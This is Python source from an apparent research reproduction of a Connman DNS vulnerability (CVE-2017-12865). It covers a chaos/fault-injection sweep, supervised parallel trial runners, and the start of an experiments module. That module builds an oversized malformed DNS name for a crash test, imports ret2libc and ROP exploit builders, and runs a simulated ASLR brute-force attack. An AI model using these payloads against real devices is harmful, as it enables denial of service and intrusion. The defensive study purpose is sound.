            return f"halted @{self.attack_attempts} (start limit)"
        return f"no shell ({self.attack_attempts} tries)"

    def row(self) -> Tuple:
        return (
            f"{self.fault_rate:.2f}",
            f"{self.answered}/{self.queries}",
            self.stale,
            self.failed,
            self.restarts,
            f"{self.availability:.3f}",
            self.attack_verdict(),
        )


@dataclass
class ReliabilityReport:
    """The sweep's full result table (deterministic per seed)."""

    seed: int
    cells: List[ChaosCell] = field(default_factory=list)
    #: Metrics summary from the sweep's attached collector (counters +
    #: histograms over every cell), when the sweep ran observed.
    metrics: Optional[dict] = None
    #: Trials that exhausted their retry budget under a quarantine policy
    #: (empty for strict/healthy runs, so the artifact stays byte-stable).
    failures: List[TrialFailure] = field(default_factory=list)
    #: Harness-health ledger from the supervised runner (not part of the
    #: results artifact: retry/timeout counts are wall-clock dependent).
    health: Optional[SweepStats] = None

    HEADERS = ("fault rate", "answered", "stale", "failed", "restarts",
               "availability", "attack")

    def describe(self) -> str:
        text = render_table(
            self.HEADERS,
            [cell.row() for cell in self.cells],
            title=f"chaos sweep (seed {self.seed})",
        )
        for failure in self.failures:
            text += f"\nQUARANTINED {failure.describe()}"
        return text

    def to_dict(self) -> dict:
        return {
            "seed": self.seed,
            "failures": [failure.to_dict() for failure in self.failures],
            "cells": [
                {
                    "fault_rate": cell.fault_rate,
                    "queries": cell.queries,
                    "answered": cell.answered,
                    "stale": cell.stale,
                    "failed": cell.failed,
                    "faults_injected": cell.faults_injected,
                    "restarts": cell.restarts,
                    "supervisor_gave_up": cell.supervisor_gave_up,
                    "availability": cell.availability,
                    "attack_attempts": cell.attack_attempts,
                    "attack_succeeded": cell.attack_succeeded,
                    "attack_halted": cell.attack_halted,
                }
                for cell in self.cells
            ],
            "metrics": self.metrics,
        }


def _chaos_policy(seed: int, level: float) -> FaultPolicy:
    """The sweep's fault mix at one level (level 0.0 injects nothing)."""
    return FaultPolicy(
        seed,
        drop=0.60 * level,
        delay=0.25 * level,
        corrupt=0.10 * level,
        truncate=0.05 * level,
        delay_ms=(50.0, 400.0),
    )


def run_chaos_point(
    level: float,
    *,
    seed: int,
    queries: int = 24,
    attack_budget: int = 32,
    entropy_pages: int = 32,
    start_limit_burst: int = 6,
    observer: Optional[Collector] = None,
    taint: bool = False,
) -> ChaosCell:
    """Measure one fault level: client workload first, then the attack.

    When ``observer`` is set, the daemon, supervisor, fault fabric, and
    brute forcer all trace into it — the chaos point becomes the CLI's
    canonical observed scenario (``repro trace-events`` / ``repro
    metrics``).  ``taint=True`` (observed runs only) attaches a taint
    engine so every parsed reply is provenance-tracked; cells are
    byte-identical either way.
    """
    if taint and observer is not None and observer.taint is None:
        from ..obs.taint import TaintEngine

        observer.attach_taint(TaintEngine())
    # Narrow the victim's ASLR span to the attacker's guess space so the
    # attack column measures fault/supervision effects, not raw entropy.
    profile = WX_ASLR.with_(aslr_entropy_pages=entropy_pages)
    victim = ConnmanDaemon(arch="x86", profile=profile, rng=random.Random(seed),
                           observer=observer)
    supervisor = DaemonSupervisor(victim, start_limit_burst=start_limit_burst)
    policy = _chaos_policy(seed + 1, level)
    policy.observer = observer
    legit = SimpleDnsServer(default_address="203.0.113.10")
    resolver = ResilientResolver(
        [
            faulty_transport(legit.handle_query, policy,
                             src=victim.name, dst=f"ns{index}",
                             timeout_ms=TIMEOUT_MS)
            for index in (1, 2)
        ],
        retries=1,
        rng=random.Random(seed + 2),
    )

    answered = stale = failed = 0
    # The last quarter of a faulty run is a scripted total outage: both
    # upstreams dark, so every revisit must degrade to a stale answer.
    outage_start = queries - max(2, queries // 4) if level > 0 else queries
    for number in range(queries):
        if number == outage_start:
            policy.set_host("ns1", drop=1.0)
            policy.set_host("ns2", drop=1.0)
        supervisor.tick(1.0)
        if not supervisor.ensure_running():
            failed += queries - number
            break
        victim.cache.advance(CLOCK_STEP)
        packet = make_query(0x3000 + number, f"host{number % NAME_POOL}.chaos.example").encode()
        stale_before = resolver.stale_served
        response = victim.handle_client_query(packet, resolver)
        if response is None:
            failed += 1
        elif resolver.stale_served > stale_before:
            stale += 1
        else:
            answered += 1

    attack = AslrBruteForcer(
        victim,
        max_attempts=attack_budget,
        rng=random.Random(seed + 3),
        entropy_pages=entropy_pages,
        supervisor=supervisor,
        reply_faults=policy,
    ).run()

    return ChaosCell(
        fault_rate=level,
        queries=queries,
        answered=answered,
        stale=stale,
        failed=failed,
        faults_injected=policy.fault_count(),
        restarts=supervisor.restart_count,
        supervisor_gave_up=supervisor.gave_up,
        availability=supervisor.availability(),
        attack_attempts=attack.attempts,
        attack_succeeded=attack.succeeded,
        attack_halted=attack.halted_by_supervisor,
    )


def _chaos_point_task(task: Tuple) -> Tuple:
    """Worker for the parallel sweep: one fully seeded chaos point.

    Module-level (pool-picklable).  When the sweep is observed, the worker
    runs with its own collector and ships its metrics registry, span list,
    time-series store (when the parent samples), and final clock back for
    the parent to merge — counter totals, the span forest, and the sampled
    series match the sequential run exactly.
    """
    (level, point_seed, queries, attack_budget, entropy_pages,
     start_limit_burst, observed, sample_interval, sample_limit,
     profile_interval, tainted) = task
    collector = Collector() if observed else None
    if collector is not None and sample_interval is not None:
        collector.attach_series(
            TimeSeriesStore(interval=sample_interval, limit=sample_limit))
    if collector is not None and profile_interval is not None:
        from ..obs import DeterministicProfiler

        collector.attach_profiler(
            DeterministicProfiler(sample_interval=profile_interval))
    if collector is not None and tainted:
        from ..obs.taint import TaintEngine

        collector.attach_taint(TaintEngine())
    cell = run_chaos_point(
        level,
        seed=point_seed,
        queries=queries,
        attack_budget=attack_budget,
        entropy_pages=entropy_pages,
        start_limit_burst=start_limit_burst,
        observer=collector,
    )
    if collector is None:
        return cell, None, None, None, 0.0, None
    return (cell, collector.metrics, collector.tracer.spans,
            collector.series, collector.clock,
            collector.profiler.snapshot() if collector.profiler is not None
            else None)


#: Checkpoint identity for the chaos sweep (resume validates against it).
CHAOS_EXPERIMENT_ID = "E16.chaos"


def run_chaos_sweep(
    rates: Sequence[float] = (0.0, 0.2, 0.5),
    *,
    seed: int = 0xC4A05,
    queries_per_rate: int = 24,
    attack_budget: int = 32,
    entropy_pages: int = 32,
    start_limit_burst: int = 6,
    observer: Optional[Collector] = None,
    workers: Optional[int] = 1,
    policy: Optional[RunPolicy] = None,
    checkpoint: Optional[str] = None,
    resume: bool = False,
    sweep_observer: Optional[Collector] = None,
    taint: bool = False,
) -> ReliabilityReport:
    """Sweep the fault level; each point gets an independent derived seed.

    Pass (or let the sweep create) a :class:`~repro.obs.Collector` to get
    a metrics summary on the report; ``observer=None`` keeps the legacy
    unobserved path byte-identical.

    ``workers>1`` fans the points out over the parallel runner: cells are
    identical to the sequential sweep (each point is seeded independently),
    and when observed, worker metrics and span trees are merged into
    ``observer`` in point order (span ids are rebased so the merged forest
    matches the sequential sweep's exactly).  Event traces stay per-worker
    in that mode — only the sequential path streams events into the parent
    collector.

    Resilience: ``policy`` adds per-trial timeouts/retries (quarantined
    points land in ``report.failures`` instead of aborting the sweep);
    ``checkpoint`` journals every completed point to an append-only JSONL
    file so a killed sweep restarted with ``resume=True`` re-executes only
    the unfinished points and produces a byte-identical results artifact.
    ``sweep_observer`` receives the harness-health counters
    (``sweep.retries``/``sweep.timeouts``/``sweep.quarantined``/
    ``sweep.resumed_trials``) — deliberately a *separate* collector from
    ``observer`` so wall-clock-dependent harness telemetry never leaks
    into the deterministic results artifact.
    """
    report = ReliabilityReport(seed=seed)
    # Checkpointing (or resuming) always takes the task-fanout path, even
    # sequentially, so the journal sees identical trial payloads at any
    # worker count — the resume artifact must not depend on ``workers``.
    # A supplied ``policy`` or ``sweep_observer`` forces it too: the
    # supervised runner is the only place retries/quarantine/health
    # counters exist, so a sequential `repro chaos --retries N` must not
    # silently drop them (cells stay identical — each point is seeded
    # independently and runs in-process at workers=1).
    use_tasks = (checkpoint is not None or resume
                 or policy is not None or sweep_observer is not None
                 or (resolve_workers(workers) > 1 and len(rates) > 1))
    if use_tasks:
        store = observer.series if observer is not None else None
        profiler = observer.profiler if observer is not None else None
        tainted = taint or (observer is not None and observer.taint is not None)
        tasks = [
            (level, seed + 7919 * index, queries_per_rate, attack_budget,
             entropy_pages, start_limit_burst, observer is not None,
             store.interval if store is not None else None,
             store.limit if store is not None else 0,
             profiler.sample_interval if profiler is not None else None,
             tainted)
            for index, level in enumerate(rates)
        ]
        journal = None
        if checkpoint is not None:
            journal = SweepCheckpoint(
                checkpoint, experiment=CHAOS_EXPERIMENT_ID,
                grid_hash=grid_hash(tasks), total=len(tasks), seed=seed,
                resume=resume,
            )
        try:
            outcome = run_supervised(
                _chaos_point_task, tasks, workers=workers,
                policy=policy if policy is not None else DEFAULT_POLICY,
                observer=sweep_observer, checkpoint=journal,
                seed_of=lambda task: task[1], label="chaos",
            )
        finally:
            if journal is not None:
                journal.close()
        report.failures = outcome.failures
        report.health = outcome.stats
        for payload in outcome.results:
            if isinstance(payload, TrialFailure):
                continue  # quarantined point: reported, not merged
            cell, metrics, spans, series, clock, profile = payload
            report.cells.append(cell)
            if observer is not None:
                if store is not None and series is not None:
                    # Adopt the worker's series *before* merging its
                    # registry: the adopt offsets are the cumulative
                    # counts of every prior point, exactly what the
                    # shared sequential registry held during this one.
                    store.adopt(series, observer.metrics)
                if metrics is not None:
                    observer.metrics.merge(metrics)
                if spans:
                    # Deterministic merge: task order + id rebasing
                    # reproduce the sequential sweep's span forest exactly.
                    observer.tracer.adopt(spans)
                if profiler is not None and profile is not None:
                    # Profiles are pure counter sums with run-scoped
                    # sampling phases, so adopting point snapshots in
                    # task order reproduces the sequential profile
                    # byte for byte (folded stacks included).
                    profiler.adopt(profile)
                # The shared sequential clock is a running max over the
                # points (advance_to); reproduce it after the adopts so
                # no already-covered grid boundary is re-sampled.
                observer.advance_to(clock)
    else:
        for index, level in enumerate(rates):
            report.cells.append(
                run_chaos_point(
                    level,
                    seed=seed + 7919 * index,
                    queries=queries_per_rate,
                    attack_budget=attack_budget,
                    entropy_pages=entropy_pages,
                    start_limit_burst=start_limit_burst,
                    observer=observer,
                    taint=taint,
                )
            )
    if observer is not None:
        report.metrics = observer.metrics.to_dict()
    return report
