"""Seeded, order-independent parallel trial fan-out.

Every sweep in this reproduction is a list of independent trials, each
carrying its own derived seed.  That makes them embarrassingly parallel
*and* order-independent: a trial's outcome is a pure function of its task
spec, never of which worker ran it or when.  :func:`run_tasks` exploits
exactly that contract — results come back positionally, so ``workers=N``
is outcome-identical to ``workers=1`` (the fidelity tests pin this).

The runner degrades gracefully: a single task, ``workers<=1``, or an
environment where a pool cannot be created (sandboxes without POSIX
semaphores) all fall back to in-process execution with the same results.
"""

from __future__ import annotations

import multiprocessing
import os
from typing import Callable, Iterable, List, Optional, TypeVar

T = TypeVar("T")
R = TypeVar("R")


def default_workers() -> int:
    """One worker per CPU — the ``workers=None`` resolution."""
    return max(1, os.cpu_count() or 1)


def resolve_workers(workers: Optional[int]) -> int:
    """Normalize a ``workers`` argument (None/0/negative -> cpu count)."""
    if workers is None or workers <= 0:
        return default_workers()
    return workers


def _pool_context():
    methods = multiprocessing.get_all_start_methods()
    # fork shares the already-imported interpreter state and is far cheaper
    # for many small trials; spawn works too since every worker callable in
    # this codebase is module-level (picklable by reference).
    return multiprocessing.get_context("fork" if "fork" in methods else None)


def run_tasks(worker: Callable[[T], R], tasks: Iterable[T], *,
              workers: Optional[int] = 1) -> List[R]:
    """Run ``worker(task)`` for every task; results in task order.

    ``worker`` must be a module-level callable and every task picklable.
    Each task must embed its own derived seed so execution order cannot
    leak into outcomes — the runner guarantees positional results, the
    caller guarantees per-task determinism.
    """
    tasks = list(tasks)
    count = min(resolve_workers(workers), len(tasks))
    if count <= 1:
        return [worker(task) for task in tasks]
    try:
        with _pool_context().Pool(processes=count) as pool:
            return pool.map(worker, tasks)
    except (ImportError, NotImplementedError, OSError, PermissionError):
        # No usable multiprocessing primitives here: same results, one process.
        return [worker(task) for task in tasks]
