"""Seeded, order-independent parallel trial fan-out — supervised.

Every sweep in this reproduction is a list of independent trials, each
carrying its own derived seed.  That makes them embarrassingly parallel
*and* order-independent: a trial's outcome is a pure function of its task
spec, never of which worker ran it or when.  The runner exploits exactly
that contract — results come back positionally, so ``workers=N`` is
outcome-identical to ``workers=1`` (the fidelity tests pin this), and a
*retried* trial is bit-identical to a first-try trial, so supervision
never perturbs results either.

Two entry points share one engine:

* :func:`run_tasks` — the strict, drop-in runner: any trial failure
  (after the policy's retry budget) raises a :class:`TaskError` carrying
  the task index and derived seed.  Callers get a plain results list.
* :func:`run_supervised` — the campaign runner: failures are quarantined
  into typed :class:`TrialFailure` slots instead of raised, completed
  trials can be journaled to a :class:`SweepCheckpoint` for ``--resume``,
  and harness-health counters (``sweep.retries``/``sweep.timeouts``/
  ``sweep.quarantined``/``sweep.resumed_trials``/``sweep.respawns``/
  ``sweep.fallback``) plus a ``sweep.trial.duration`` histogram flow into
  an optional observer :class:`~repro.obs.Collector`.

Dispatch is ``apply_async`` per trial with a per-trial wall-clock
deadline (the heartbeat), not one blocking ``Pool.map`` — and at most
``workers`` trials are in flight at once, so a dispatched trial is
*executing* and its deadline measures execution time, never time spent
queued behind the rest of a 10^5-trial campaign.  A hung guest or a
worker the OS killed mid-trial surfaces as a missed deadline, the pool
is respawned, every other in-flight trial is re-dispatched without
charging its retry budget, and only the offending trial pays a retry.
Pool-*creation* failure (sandboxes without POSIX semaphores) is the only
silent-degradation path left: it falls back to in-process execution and
says so via the ``sweep.fallback`` event — mid-run worker death is never
conflated with it.
"""

from __future__ import annotations

import multiprocessing
import os
import time
import traceback
from collections import deque
from dataclasses import dataclass, field
from typing import (TYPE_CHECKING, Any, Callable, Dict, Iterable, List,
                    Optional, Tuple, TypeVar)

from .resume import SweepCheckpoint, TaskError, TrialFailure, derive_task_seed

if TYPE_CHECKING:  # pragma: no cover - typing only
    from ..obs import Collector

T = TypeVar("T")
R = TypeVar("R")

#: Pool-creation failures that mean "no usable multiprocessing here".
#: Anything else a pool raises mid-run is worker trouble, not absence of
#: primitives, and must be supervised — never silently absorbed.
POOL_UNAVAILABLE_ERRORS = (ImportError, NotImplementedError, OSError,
                           PermissionError)


def default_workers() -> int:
    """One worker per CPU — the ``workers=None`` resolution."""
    return max(1, os.cpu_count() or 1)


def resolve_workers(workers: Optional[int]) -> int:
    """Normalize a ``workers`` argument (None/0/negative -> cpu count)."""
    if workers is None or workers <= 0:
        return default_workers()
    return workers


def _pool_context():
    methods = multiprocessing.get_all_start_methods()
    # fork shares the already-imported interpreter state and is far cheaper
    # for many small trials; spawn works too since every worker callable in
    # this codebase is module-level (picklable by reference).
    return multiprocessing.get_context("fork" if "fork" in methods else None)


@dataclass(frozen=True)
class RunPolicy:
    """Per-trial supervision budget for a sweep.

    ``timeout`` is wall-clock seconds a single trial may run before the
    runner declares its worker hung/dead and respawns the pool (``None``
    disables the heartbeat — in-process execution can never preempt a
    trial, so the timeout only applies to pool dispatch).  ``retries`` is
    how many times a failed/timed-out trial re-executes before it is
    quarantined (or raised, per ``on_failure``); the re-execution is
    bit-identical because task specs are fully seeded.  Backoff between
    retries is ``backoff * backoff_factor**(attempt-1)`` seconds.
    """

    timeout: Optional[float] = None
    retries: int = 0
    backoff: float = 0.05
    backoff_factor: float = 2.0
    poll_interval: float = 0.02
    on_failure: str = "raise"  # "raise" | "quarantine"

    def __post_init__(self):
        if self.timeout is not None and self.timeout <= 0:
            raise ValueError(f"trial timeout must be positive, got {self.timeout!r}")
        if self.retries < 0:
            raise ValueError(f"retry budget cannot be negative: {self.retries}")
        if self.on_failure not in ("raise", "quarantine"):
            raise ValueError(f"unknown on_failure mode {self.on_failure!r}")

    def backoff_for(self, attempt: int) -> float:
        """Delay before re-dispatching a trial that failed ``attempt`` times."""
        if self.backoff <= 0:
            return 0.0
        return self.backoff * (self.backoff_factor ** max(attempt - 1, 0))


#: Strict default: behaves like the old bare runner, plus error context.
DEFAULT_POLICY = RunPolicy()

#: Campaign default: bounded retries, hung-worker heartbeat, quarantine.
SUPERVISED_POLICY = RunPolicy(timeout=120.0, retries=2, on_failure="quarantine")


@dataclass
class SweepStats:
    """Harness-health counters for one supervised sweep."""

    total: int = 0
    executed: int = 0
    resumed: int = 0
    retries: int = 0
    timeouts: int = 0
    quarantined: int = 0
    respawns: int = 0
    fallback_reason: Optional[str] = None

    def describe(self) -> str:
        text = (f"sweep health: {self.executed}/{self.total} executed, "
                f"{self.resumed} resumed, {self.retries} retries, "
                f"{self.timeouts} timeouts, {self.quarantined} quarantined, "
                f"{self.respawns} pool respawns")
        if self.fallback_reason:
            text += f", in-process fallback ({self.fallback_reason})"
        return text

    def to_dict(self) -> dict:
        return {
            "total": self.total,
            "executed": self.executed,
            "resumed": self.resumed,
            "retries": self.retries,
            "timeouts": self.timeouts,
            "quarantined": self.quarantined,
            "respawns": self.respawns,
            "fallback_reason": self.fallback_reason,
        }


@dataclass
class SweepOutcome:
    """A supervised sweep's positional results plus its health ledger.

    ``results[i]`` is trial *i*'s result, or the :class:`TrialFailure`
    that quarantined it — positions are stable either way, so partial
    results stay attributable.
    """

    results: List[Any]
    failures: List[TrialFailure] = field(default_factory=list)
    stats: SweepStats = field(default_factory=SweepStats)

    @property
    def ok(self) -> bool:
        return not self.failures

    def completed(self) -> List[Any]:
        """Only the successful results, in task order."""
        return [result for result in self.results
                if not isinstance(result, TrialFailure)]


def _run_envelope(packed: Tuple[Callable, int, Any]) -> Tuple[int, str, Any, str]:
    """Pool-side trial wrapper: exceptions come back as data, with context.

    Raising through the pool would tear down the whole ``map`` with an
    anonymous traceback; returning ``(index, "error", repr, traceback)``
    keeps the sweep alive and pins exactly which task died.
    """
    worker, index, task = packed
    try:
        return index, "ok", worker(task), ""
    except BaseException as exc:  # noqa: BLE001 - the whole point
        return index, "error", repr(exc), traceback.format_exc(limit=16)


class _ObserverHooks:
    """Null-safe shims around the optional harness observer."""

    def __init__(self, observer: Optional["Collector"], label: str):
        self.observer = observer
        self.label = label

    def inc(self, name: str, amount: int = 1) -> None:
        if self.observer is not None:
            self.observer.inc(name, amount)

    def observe_duration(self, seconds: float) -> None:
        if self.observer is not None:
            self.observer.observe("sweep.trial.duration", seconds * 1000.0)

    def emit(self, kind: str, **detail) -> None:
        if self.observer is not None:
            self.observer.emit("sweep", kind, sweep=self.label, **detail)


def run_supervised(worker: Callable[[T], R], tasks: Iterable[T], *,
                   workers: Optional[int] = 1,
                   policy: RunPolicy = SUPERVISED_POLICY,
                   observer: Optional["Collector"] = None,
                   checkpoint: Optional[SweepCheckpoint] = None,
                   seed_of: Optional[Callable[[T], Optional[int]]] = None,
                   label: str = "sweep") -> SweepOutcome:
    """Run ``worker(task)`` for every task under full supervision.

    Results are positional.  ``worker`` must be a module-level callable
    and every task picklable; each task must embed its own derived seed
    so execution order, retries, and resume cannot leak into outcomes.
    ``checkpoint`` journal entries short-circuit their trials (counted as
    ``sweep.resumed_trials``); newly completed trials are journaled
    before the sweep moves on.
    """
    tasks = list(tasks)
    hooks = _ObserverHooks(observer, label)
    seed_fn = seed_of if seed_of is not None else derive_task_seed
    stats = SweepStats(total=len(tasks))
    unset = object()
    slots: List[Any] = [unset] * len(tasks)
    failures: List[TrialFailure] = []

    if checkpoint is not None and checkpoint.completed:
        for index, result in checkpoint.completed.items():
            slots[index] = result
        stats.resumed = len(checkpoint.completed)
        hooks.inc("sweep.resumed_trials", stats.resumed)
        hooks.emit("sweep.resume", resumed=stats.resumed, total=len(tasks))

    pending = [index for index in range(len(tasks)) if slots[index] is unset]
    attempts: Dict[int, int] = {index: 0 for index in pending}

    def finish(index: int, result: Any, started: float) -> None:
        slots[index] = result
        stats.executed += 1
        hooks.observe_duration(time.monotonic() - started)
        if checkpoint is not None:
            checkpoint.record(index, result)

    def fail(index: int, kind: str, error: str, tb: str = "") -> bool:
        """Charge one failed attempt; True means "retry", False "gave up"."""
        attempts[index] += 1
        if attempts[index] <= policy.retries:
            stats.retries += 1
            hooks.inc("sweep.retries")
            return True
        failure = TrialFailure(
            index=index, kind=kind, attempts=attempts[index], error=error,
            seed=seed_fn(tasks[index]), task=repr(tasks[index])[:200],
            traceback=tb,
        )
        if policy.on_failure == "raise":
            raise TaskError(failure)
        slots[index] = failure
        failures.append(failure)
        stats.quarantined += 1
        hooks.inc("sweep.quarantined")
        hooks.emit("sweep.quarantine", index=index, failure_kind=kind,
                   seed=failure.seed, error=error[:120])
        return False

    def run_inline(indices: Iterable[int]) -> None:
        """In-process execution with the same retry/quarantine semantics.

        A timeout cannot preempt in-process code, so ``policy.timeout``
        does not apply here — everything else (retries, backoff,
        quarantine, journaling) behaves identically to pool dispatch.
        Only ``Exception`` is supervised: a KeyboardInterrupt/SystemExit
        is the *operator* stopping the sweep, not a trial failing, and
        must propagate instead of burning a retry budget.
        """
        for index in indices:
            while True:
                started = time.monotonic()
                try:
                    result = worker(tasks[index])
                except Exception as exc:  # supervised trial failure
                    if fail(index, "error", repr(exc),
                            traceback.format_exc(limit=16)):
                        delay = policy.backoff_for(attempts[index])
                        if delay:
                            time.sleep(delay)
                        continue
                    break
                finish(index, result, started)
                break

    count = min(resolve_workers(workers), len(pending))
    if count <= 1:
        run_inline(pending)
        return SweepOutcome(results=slots, failures=failures, stats=stats)

    context = _pool_context()
    try:
        pool = context.Pool(processes=count)
    except POOL_UNAVAILABLE_ERRORS as exc:
        # No usable multiprocessing primitives here: same results, one
        # process — but loudly, never conflated with a worker crash.
        stats.fallback_reason = repr(exc)
        hooks.inc("sweep.fallback")
        hooks.emit("sweep.fallback", reason=repr(exc), stage="pool-creation")
        run_inline(pending)
        return SweepOutcome(results=slots, failures=failures, stats=stats)

    waiting = deque(pending)        # dispatchable now
    delayed: List[Tuple[float, int]] = []  # (eligible_at, index) backoff queue
    inflight: Dict[int, Tuple[Any, Optional[float], float]] = {}

    def respawn(reason: str) -> bool:
        """Replace a wedged pool; False -> fall back to in-process."""
        nonlocal pool
        pool.terminate()
        pool.join()
        stats.respawns += 1
        hooks.inc("sweep.respawns")
        hooks.emit("sweep.respawn", reason=reason)
        # In-flight trials were innocent bystanders: back to the queue
        # with no retry charge (their outcomes are pure re-runs anyway).
        for other in list(inflight):
            waiting.appendleft(other)
        inflight.clear()
        try:
            pool = context.Pool(processes=count)
        except POOL_UNAVAILABLE_ERRORS as exc:
            stats.fallback_reason = repr(exc)
            hooks.inc("sweep.fallback")
            hooks.emit("sweep.fallback", reason=repr(exc),
                       stage="pool-respawn")
            return False
        return True

    try:
        while waiting or delayed or inflight:
            now = time.monotonic()
            if delayed:
                still_delayed = []
                for eligible_at, index in delayed:
                    if eligible_at <= now:
                        waiting.append(index)
                    else:
                        still_delayed.append((eligible_at, index))
                delayed = still_delayed
            # Bounded dispatch: never more than ``count`` trials in
            # flight, so every dispatched trial holds a pool worker and
            # its deadline clocks execution, not time spent queued — a
            # sweep longer than ``policy.timeout`` must not see healthy
            # queued trials declared hung.
            while waiting and len(inflight) < count:
                index = waiting.popleft()
                dispatched = time.monotonic()
                handle = pool.apply_async(
                    _run_envelope, ((worker, index, tasks[index]),))
                deadline = (dispatched + policy.timeout
                            if policy.timeout is not None else None)
                inflight[index] = (handle, deadline, dispatched)
            progressed = False
            pool_lost = False
            for index in list(inflight):
                handle, deadline, started = inflight[index]
                if handle.ready():
                    progressed = True
                    del inflight[index]
                    try:
                        _index, status, payload, detail = handle.get()
                    except Exception as exc:  # pool infra broke mid-result
                        # The result channel itself broke (worker killed
                        # hard enough to poison the pool): supervise it.
                        if fail(index, "error", repr(exc)):
                            delayed.append(
                                (now + policy.backoff_for(attempts[index]),
                                 index))
                        pool_lost = not respawn(f"result channel broke: "
                                                f"{exc!r}")
                        break
                    if status == "ok":
                        finish(index, payload, started)
                    else:
                        if fail(index, "error", payload, detail):
                            delayed.append(
                                (now + policy.backoff_for(attempts[index]),
                                 index))
                elif deadline is not None and time.monotonic() > deadline:
                    # Heartbeat missed: the worker is hung, or the OS
                    # killed it and the task will never complete.  Either
                    # way the pool slot is unrecoverable in place.
                    progressed = True
                    del inflight[index]
                    stats.timeouts += 1
                    hooks.inc("sweep.timeouts")
                    hooks.emit("sweep.timeout", index=index,
                               timeout_s=policy.timeout)
                    if fail(index, "timeout",
                            f"trial exceeded {policy.timeout:g}s wall-clock "
                            f"deadline"):
                        delayed.append(
                            (now + policy.backoff_for(attempts[index]), index))
                    pool_lost = not respawn(f"trial {index} missed its "
                                            f"{policy.timeout:g}s heartbeat")
                    break
            if pool_lost:
                run_inline(sorted(set(waiting) |
                                  {index for _, index in delayed}))
                waiting.clear()
                delayed = []
                break
            if not progressed and (waiting or delayed or inflight):
                sleep_for = policy.poll_interval
                if delayed:
                    sleep_for = min(sleep_for,
                                    max(delayed[0][0] - time.monotonic(), 0.0))
                if sleep_for > 0:
                    time.sleep(sleep_for)
    except BaseException:
        # TaskError (strict-mode abort) or the operator's ^C: either way
        # the workers must not outlive the orchestrator.
        pool.terminate()
        pool.join()
        raise
    else:
        pool.close()
        pool.join()
    return SweepOutcome(results=slots, failures=failures, stats=stats)


def run_tasks(worker: Callable[[T], R], tasks: Iterable[T], *,
              workers: Optional[int] = 1,
              policy: Optional[RunPolicy] = None,
              observer: Optional["Collector"] = None,
              checkpoint: Optional[SweepCheckpoint] = None,
              seed_of: Optional[Callable[[T], Optional[int]]] = None,
              label: str = "sweep") -> List[R]:
    """Run ``worker(task)`` for every task; results in task order.

    The strict entry point: a trial that exhausts its retry budget raises
    :class:`TaskError` (task index + derived seed attached) instead of
    quarantining, so callers always get a *complete* results list.  Pass
    a ``policy`` to add per-trial timeouts/retries, an ``observer`` to
    surface sweep-health counters, and a ``checkpoint`` to make the run
    resumable; the defaults behave like the classic bare runner.
    """
    if policy is None:
        strict = DEFAULT_POLICY
    elif policy.on_failure != "raise":
        strict = RunPolicy(timeout=policy.timeout, retries=policy.retries,
                           backoff=policy.backoff,
                           backoff_factor=policy.backoff_factor,
                           poll_interval=policy.poll_interval,
                           on_failure="raise")
    else:
        strict = policy
    tasks = list(tasks)
    # Fast path: the sequential case stays a plain loop (no envelopes, no
    # polling) but still reports failures with task context.
    if (checkpoint is None and observer is None
            and min(resolve_workers(workers), len(tasks)) <= 1
            and strict.retries == 0):
        seed_fn = seed_of if seed_of is not None else derive_task_seed
        results: List[R] = []
        for index, task in enumerate(tasks):
            try:
                results.append(worker(task))
            except Exception as exc:  # re-raised with task context
                raise TaskError(TrialFailure(
                    index=index, kind="error", attempts=1, error=repr(exc),
                    seed=seed_fn(task), task=repr(task)[:200],
                )) from exc
        return results
    outcome = run_supervised(worker, tasks, workers=workers, policy=strict,
                             observer=observer, checkpoint=checkpoint,
                             seed_of=seed_of, label=label)
    return outcome.results
