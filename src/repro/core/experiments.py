"""The paper's experiments (E1–E8), runnable end to end.

Each function performs one experiment from DESIGN.md's index and returns an
:class:`ExperimentResult` whose rows print like the paper reports them.
Benchmarks and examples call these; tests assert on their fields.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import List, Optional, Sequence, Tuple

from ..connman import ConnmanDaemon, EventKind
from ..defenses import (
    NONE,
    WX,
    WX_ASLR,
    ProtectionProfile,
    compare_builds,
)
from ..dns import SimpleDnsServer, build_raw_response, make_query
from ..exploit import (
    ArmExeclpGadget,
    ArmRopMemcpyExeclp,
    X86Ret2Libc,
    builder_for,
    deliver,
    malicious_server_for,
)
from ..firmware import FIRMWARE_CATALOG, IoTDevice, UBUNTU_X86, audit_firmware, raspberry_pi_3b
from ..net import AccessPoint, DhcpServer, DNS_PORT, Host, Network, RadioEnvironment, WifiPineapple
from ..othercves import ALL_SPECS, AdaptedService, adapt_exploit, deliver_to_service
from .registry import register_experiment
from .report import render_table
from .scenarios import AttackScenario, attacker_knowledge, run_scenario


@dataclass
class ExperimentResult:
    experiment_id: str
    title: str
    headers: Sequence[str]
    rows: List[Tuple] = field(default_factory=list)
    notes: str = ""
    #: Metrics summary from an attached :class:`~repro.obs.Collector`
    #: (counters + histograms), when the experiment ran observed.
    metrics: Optional[dict] = None

    def describe(self) -> str:
        table = render_table(self.headers, self.rows, title=f"{self.experiment_id}: {self.title}")
        return table + (f"\n{self.notes}" if self.notes else "")

    @property
    def all_pass(self) -> bool:
        """True when every row's final 'expected' column says ok."""
        return all(row[-1] == "ok" for row in self.rows)

    def to_dict(self) -> dict:
        """JSON-serializable form (CLI ``report --json``, dashboards)."""
        payload = {
            "experiment": self.experiment_id,
            "title": self.title,
            "headers": list(self.headers),
            "rows": [[_jsonable(cell) for cell in row] for row in self.rows],
            "notes": self.notes,
            "all_pass": self.all_pass,
        }
        if self.metrics is not None:
            payload["metrics"] = self.metrics
        return payload


def _jsonable(cell):
    if isinstance(cell, (str, int, float, bool)) or cell is None:
        return cell
    return str(cell)


def _check(expected: bool) -> str:
    return "ok" if expected else "MISMATCH"


# -- E1: crash / DoS (§III intro) -------------------------------------------------


def naive_overflow_blob(length: int = 1400) -> bytes:
    """An un-engineered oversized name: max-size labels of 'A's."""
    out = bytearray()
    remaining = length
    while remaining > 0:
        chunk = min(63, remaining)
        out.append(chunk)
        out += b"A" * chunk
        remaining -= chunk + 1
    out.append(0)
    return bytes(out)


@register_experiment("E1", "DoS via malformed DNS response (CVE-2017-12865)")
def e1_dos() -> ExperimentResult:
    """Oversized Type A response: crash on <=1.34, dropped on 1.35."""
    result = ExperimentResult(
        "E1", "DoS via malformed DNS response (CVE-2017-12865)",
        headers=("arch", "connman", "outcome", "daemon alive", "expected"),
    )
    blob = naive_overflow_blob()
    query = make_query(0xD05, "crash-me.example")
    reply = build_raw_response(query, blob)
    for arch in ("x86", "arm"):
        for version, should_survive in (("1.34", False), ("1.35", True)):
